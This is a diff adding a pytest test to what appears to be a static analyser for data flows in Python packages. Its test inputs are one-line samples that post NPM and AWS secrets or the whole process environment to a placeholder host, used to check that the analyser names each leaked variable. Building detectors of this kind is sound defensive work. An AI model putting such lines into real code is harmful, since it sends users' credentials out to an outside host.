@@ -254,6 +254,23 @@ def test_the_environment_of_a_process_goes_nowhere() -> None:
     assert not look("import subprocess, os\nsubprocess.run(['make'], env=dict(os.environ, A='1'))").flows
 
 
+@pytest.mark.parametrize(
+    ("code", "detail"),
+    [
+        ("requests.post('https://a.invalid', data=os.environ['NPM_TOKEN'])", "NPM_TOKEN"),
+        (
+            "requests.post('https://a.invalid', data=os.environ.get('AWS_SECRET_ACCESS_KEY', ''))",
+            "AWS_SECRET_ACCESS_KEY",
+        ),
+        ("requests.post('https://a.invalid', data=os.environ.copy())", "*"),
+        ("requests.post('https://a.invalid', data={k: v for k, v in os.environ.items()})", "*"),
+    ],
+)
+def test_names_the_variable_that_leaves(code: str, detail: str) -> None:
+    """A flow from the environment names the variable, or a star for all of them."""
+    assert {flow.source.detail for flow in look("import os, requests\n" + code).flows} == {detail}
+
+
 def test_a_version_file_that_is_executed_is_named() -> None:
     """A setup.py that executes its own version file says which file it was."""
     found = look(
